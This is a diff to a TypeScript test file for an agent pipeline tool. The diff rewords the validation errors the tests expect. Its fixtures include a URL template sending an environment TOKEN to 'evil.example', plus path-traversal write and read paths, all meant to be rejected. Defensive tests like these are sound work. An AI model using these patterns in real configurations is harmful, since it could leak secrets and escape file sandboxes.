@@ -158,11 +158,14 @@ describe("Tools for agents", () => {
           ],
           [frame(`  - urls: ["https://evil.example/\${{ env.TOKEN }}"]\n${write}`), "may not read the variable TOKEN"],
           [frame(`${pages}  - join: { file: ../package.json, on: url }\n${write}`), "`file` reads files"],
-          [frame(`${pages}  - write: { jsonl: ../../evil.jsonl }\n`), "its outputs have to be out/evil.jsonl"],
-          [frame(`${pages}  - write: { jsonl: "${outside}/evil.jsonl" }\n`), "its outputs have to be"],
-          [frame(`${pages}  - write: { jsonl: out/prices.jsonl }\n`), "its outputs have to be"],
-          [frame(`${pages}  - write: { jsonl: out/evil/../prices.jsonl }\n`), "its outputs have to be"],
-          [frame(`${pages}${write}`).replace("name: evil", "name: prices"), "the definition's name has to be evil"],
+          [
+            frame(`${pages}  - write: { jsonl: ../../evil.jsonl }\n`),
+            "its outputs, and a manifest, must be out/evil.jsonl"
+          ],
+          [frame(`${pages}  - write: { jsonl: "${outside}/evil.jsonl" }\n`), "its outputs, and a manifest, must be"],
+          [frame(`${pages}  - write: { jsonl: out/prices.jsonl }\n`), "its outputs, and a manifest, must be"],
+          [frame(`${pages}  - write: { jsonl: out/evil/../prices.jsonl }\n`), "its outputs, and a manifest, must be"],
+          [frame(`${pages}${write}`).replace("name: evil", "name: prices"), "the definition's name must be evil"],
           [frame(`${pages}${write}`, "state: { key: prices }\n"), "`key` shares the state of other pipelines"],
           [frame(`${pages}${write}`).replace("budget: { credits: 5 }\n", ""), "it needs a budget"],
           [frame(`${pages}${write}`, "schedule: { cron: '* * * * *', timezone: UTC }\n"), "a schedule needs a person"],
@@ -239,7 +242,7 @@ describe("Tools for agents", () => {
         ["numbered", "{ csv: out/numbered.csv }", "more/numbered.json has the name numbered"],
         ["kept", "{ csv: out/kept.csv.gz }", "out/kept.csv.gz exists"],
         ["folder", "{ jsonl: out/folder/b.jsonl }", "out/folder exists"],
-        ["rows", '{ csv: "out/rows-{url}.csv", partitionBy: { url: url } }', "its outputs have to be"],
+        ["rows", '{ csv: "out/rows-{url}.csv", partitionBy: { url: url } }', "its outputs, and a manifest, must be"],
         ["listed", "{ csv: out/listed.csv, manifest: true }", "out/_manifest.json is none of them"]
       ] as const) {
         const { isError, text } = yield* draft(name, write)
@@ -584,7 +587,7 @@ describeLedgers("The record of agents", (place) => {
       const [rest = ""] = (yield* agents.waiting(10)).map(({ id }) => id)
       expect((yield* Effect.flip(agents.claim(rest, 40, free))).message).toContain("20 of 100 a day are left")
       expect(yield* agents.approve(rest, "ada")).toMatchObject({ id: rest, approvedBy: "ada", summary: ["one", "two"] })
-      expect((yield* Effect.flip(agents.approve(rest, "eve"))).message).toContain("was approved before, by ada")
+      expect((yield* Effect.flip(agents.approve(rest, "eve"))).message).toContain("has already been approved, by ada")
       expect((yield* Effect.flip(agents.claim(rest, 41, free))).message).toContain("cannot raise a budget")
       yield* agents.claim(rest, 40, free)
       expect((yield* Effect.flip(agents.claim(rest, 40, free))).message).toContain("has been run")
